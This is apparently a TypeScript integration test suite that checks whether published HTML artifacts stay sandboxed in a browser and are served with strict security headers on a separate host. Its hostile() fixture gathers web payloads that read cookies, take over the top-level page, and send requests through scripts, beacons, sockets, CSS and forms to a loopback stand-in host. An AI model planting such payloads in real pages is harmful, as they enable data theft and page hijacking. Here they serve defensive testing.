import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { BrowserLauncher, canKeepApart, findChromium, type BrowserSession } from '@aos/browser';
import { exportArtifactHtml, getArtifact, renderArtifact, updateArtifact } from '@aos/contracts';
import { parseAllowedRanges } from '@aos/egress';
import { describeWhere } from '@aos/testing';
import { exchange } from '../../src/http-exchange.js';
import { makeArtifact, publishOpenly } from '../../src/sample-artifacts.js';
import { startStack, type Stack } from '../../src/stack.js';
import { connectAdmin, newTeam, type Team } from '../../src/team.js';

const executablePath = await findChromium({ path: process.env['PATH'] ?? '' });

/** A site on loopback that remembers what it was asked for. */
interface Site {
  readonly url: string;
  readonly seen: string[];
  connections(): number;
  close(): void;
}

async function site(pages: (path: string) => string): Promise<Site> {
  const seen: string[] = [];
  let connections = 0;
  const server: Server = createServer((request, response) => {
    seen.push(request.url ?? '');
    response.setHeader('content-type', 'text/html').end(pages(request.url ?? ''));
  });
  server.on('connection', () => (connections += 1));
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const { port } = server.address() as AddressInfo;
  const close = () => {
    server.close();
    server.closeAllConnections();
  };
  return { url: `http://127.0.0.1:${port}`, seen, connections: () => connections, close };
}

/** Everything that a page could try: to ask elsewhere, to read what is another's, to leave. */
function hostile(elsewhere: string): string {
  return `<h1 id="state">untouched</h1>
    <script src="${elsewhere}/script"></script>
    <script>
      document.querySelector('#state').textContent = 'script ran';
      try { document.title = 'cookie ' + document.cookie } catch {}
      try { parent.document.title = 'taken over' } catch {}
      try { top.location = '${elsewhere}/top' } catch {}
      try { window.open('${elsewhere}/popup') } catch {}
      fetch('${elsewhere}/fetch'); navigator.sendBeacon('${elsewhere}/beacon', 'x');
      new Image().src = '${elsewhere}/image-by-script'; new WebSocket('${elsewhere.replace('http', 'ws')}/socket');
    </script>
    <img src="${elsewhere}/image" onerror="document.querySelector('#state').textContent = 'handler ran'">
    <link rel="stylesheet" href="${elsewhere}/style"><link rel="prefetch" href="${elsewhere}/prefetch">
    <style>@import url(${elsewhere}/import); body { background: url(${elsewhere}/background) }
      h1 { cursor: u\\72l(${elsewhere}/escaped), auto } @font-face { font-family: x; src: url(${elsewhere}/font) }
      h1 { font-family: x }</style>
    <iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object>
    <video src="${elsewhere}/video" autoplay></video><svg><image href="${elsewhere}/svg"/></svg>
    <form id="f" action="${elsewhere}/form"><button autofocus>Send</button></form><script>f.submit()</script>
    <meta http-equiv="refresh" content="0;url=${elsewhere}/refresh">`;
}

describeWhere(
  { isThere: executablePath !== undefined, missing: 'no Chromium on the PATH' },
  'a page of an artifact, in a browser',
  () => {
    let stack: Stack;
    let team: Team;
    let elsewhere: Site;
    let wiki: Site;
    let browsers: BrowserLauncher;
    let session: BrowserSession;
    let artifactId: string;
    let publicUrl: string;

    beforeAll(async () => {
      elsewhere = await site(() => 'reached');
      stack = await startStack({ services: ['runs'], environment: { ARTIFACTS_FRAME_ANCESTORS: '*' } });
      team = await newTeam(await connectAdmin(stack));
      artifactId = await makeArtifact(team);
      const published = await publishOpenly(team, artifactId);
      publicUrl = `${stack.urls[0]!}${new URL(published).pathname}`;
      // Past everything that cleans what models write: the walls have to hold by themselves.
      await stack.database.query('UPDATE runs.artifact_revision SET body = $2 WHERE artifact_id = $1', [
        artifactId,
        hostile(elsewhere.url),
      ]);
      wiki = await site((path) =>
        path === '/framed'
          ? `<title>Wiki</title><p>wiki</p><iframe src="${publicUrl}"></iframe>`
          : hostile(elsewhere.url),
      );
      browsers = new BrowserLauncher({
        executablePath: executablePath!,
        egress: { allowed: parseAllowedRanges('127.0.0.1/32') },
        sandbox: await canKeepApart(),
      });
      session = await browsers.open();
    });

    afterAll(async () => {
      await browsers?.close();
      elsewhere?.close();
      wiki?.close();
      await stack?.stop();
    });

    it('runs nothing, asks nobody and stays where it is', async () => {
      const report = await session.open(publicUrl);
      expect(report.page.url).toBe(publicUrl);
      expect(report.pages).toHaveLength(1);
      expect(report.page.title).toBe('Show our runs');
      expect((await session.read('#state')).text).toBe('untouched');
      expect([elsewhere.connections(), elsewhere.seen]).toEqual([0, []]);
    });

    it('does not reach the page that has it in a frame', async () => {
      const report = await session.open(`${wiki.url}/framed`);
      expect([report.page.url, report.page.title]).toEqual([`${wiki.url}/framed`, 'Wiki']);
      expect([elsewhere.connections(), elsewhere.seen]).toEqual([0, []]);
    });

    it('printed, it is what it says and nothing more', async () => {
      const { text: html } = await team.client.call(exportArtifactHtml, { params: { artifactId } });
      expect(html).toContain('script ran');
      const pdf = await browsers.print({ html, policy: "default-src 'none'" }, { timeoutMs: 30_000 });
      expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
      expect([elsewhere.connections(), elsewhere.seen]).toEqual([0, []]);
    });

    it('would have done all of that without the walls', async () => {
      await session.open(`${wiki.url}/bare`).catch(() => undefined);
      expect(elsewhere.seen).toEqual(expect.arrayContaining(['/script', '/image']));
    });
  },
);

describe('how pages of artifacts are sent', () => {
  let stack: Stack;
  let team: Team;
  let artifactId: string;

  beforeAll(async () => {
    stack = await startStack({
      services: ['runs'],
      environment: { ARTIFACTS_ORIGIN: 'http://pages.example.com' },
    });
    team = await newTeam(await connectAdmin(stack));
    artifactId = await makeArtifact(team);
  });

  afterAll(async () => {
    await stack?.stop();
  });

  const at = (host: string, path: string, headers: Record<string, string> = {}) =>
    exchange(stack.urls[0]!, { method: 'GET', path, headers: { host, ...headers } });

  it('under a host of their own, where nothing else is', async () => {
    const params = { artifactId };
    const bearer = { authorization: `Bearer ${team.key}` };
    const render = `/v2/artifacts/${artifactId}/render`;
    const url = await publishOpenly(team, artifactId);
    expect(url).toMatch(/^http:\/\/pages\.example\.com\/v2\/public\/artifacts\//);
    const { pathname } = new URL(url);
    const shown = await at('pages.example.com', pathname);
    expect(shown.status).toBe(200);
    expect(shown.headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'content-disposition': 'inline',
      'content-security-policy': expect.stringMatching(
        /^default-src 'none'; .*frame-ancestors 'none'; sandbox$/,
      ),
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-resource-policy': 'same-origin',
      'cross-origin-opener-policy': 'same-origin',
      'x-dns-prefetch-control': 'off',
      'cache-control': 'no-store',
    });
    expect((await at('pages.example.com', render, bearer)).text).toBe(shown.text);
    for (const path of [pathname, render]) {
      expect((await team.client.at(stack.urls[0]!).call(renderArtifact, { params })).status).toBe(404);
      expect((await at('127.0.0.1', path, bearer)).status).toBe(404);
    }
    for (const path of [`/v2/artifacts/${artifactId}`, '/v2/openapi.json', '/docs', '/oauth/jwks']) {
      expect([path, (await at('pages.example.com', path, bearer)).status]).toEqual([path, 404]);
    }
    expect((await at('pages.example.com', '/healthz')).status).toBe(200);
    const saved = await team.client.call(exportArtifactHtml, { params });
    expect([saved.status, saved.headers['content-disposition']]).toEqual([
      200,
      "attachment; filename*=UTF-8''Show%20our%20runs.html",
    ]);
    expect(saved.text).toBe(shown.text);

    await team.client.succeed(updateArtifact, { params, body: { visibility: 'private' } });
    const gone = await at('pages.example.com', pathname, { accept: 'text/html' });
    expect([gone.status, gone.headers['content-type']]).toEqual([404, 'text/html; charset=utf-8']);
    expect((await at('pages.example.com', pathname)).status).toBe(404);
    expect((await team.client.call(getArtifact, { params })).status).toBe(200);
  });
});
